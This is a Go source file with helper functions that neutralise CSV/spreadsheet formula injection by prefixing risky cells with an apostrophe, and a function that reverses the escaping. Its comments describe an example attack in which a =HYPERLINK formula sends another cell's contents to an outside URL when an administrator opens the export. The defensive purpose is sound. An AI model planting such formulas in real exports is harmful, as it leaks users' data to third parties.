package safetext

import "strings"

// A spreadsheet (Excel, LibreOffice Calc, Google Sheets) opening a CSV file
// takes a cell that begins with one of these as a formula and runs it: a
// plan's owner written as =HYPERLINK("http://…?"&A1) by a unit head would
// send the next cell to a stranger when the agency's admin opens the export.
// An apostrophe before it makes the cell text in every one of them (OWASP's
// "CSV injection"; ASVS 1.2.10).
const formulaStarts = "=+-@\t\r\x00"

// ForSpreadsheet returns s as a cell a spreadsheet shows and never runs:
// led by one more apostrophe when, after the apostrophes it may begin with,
// it begins as a formula would; as it is otherwise.
func ForSpreadsheet(s string) string {
	if ledOrFormula(s) {
		return "'" + s
	}
	return s
}

// ForSpreadsheetRow makes every cell of a CSV row one a spreadsheet shows
// and never runs (ForSpreadsheet), in place, and returns the row.
func ForSpreadsheetRow(cells []string) []string {
	for i, c := range cells {
		cells[i] = ForSpreadsheet(c)
	}
	return cells
}

// FromSpreadsheet undoes ForSpreadsheet, so a file written for a
// spreadsheet reads back as it was, and a cell someone led by hand
// ('=1+1) reads as the text they meant: the one apostrophe ForSpreadsheet
// would have added is dropped; any other text is returned as it is.
func FromSpreadsheet(s string) string {
	if strings.HasPrefix(s, "'") && ledOrFormula(s[1:]) {
		return s[1:]
	}
	return s
}

// ledOrFormula: s, after any apostrophes, begins as a formula would. The
// apostrophes count so that the two functions undo each other for every s
// ('=x is written with two apostrophes, and read back as '=x).
func ledOrFormula(s string) bool {
	s = strings.TrimLeft(s, "'")
	return s != "" && strings.IndexByte(formulaStarts, s[0]) >= 0
}
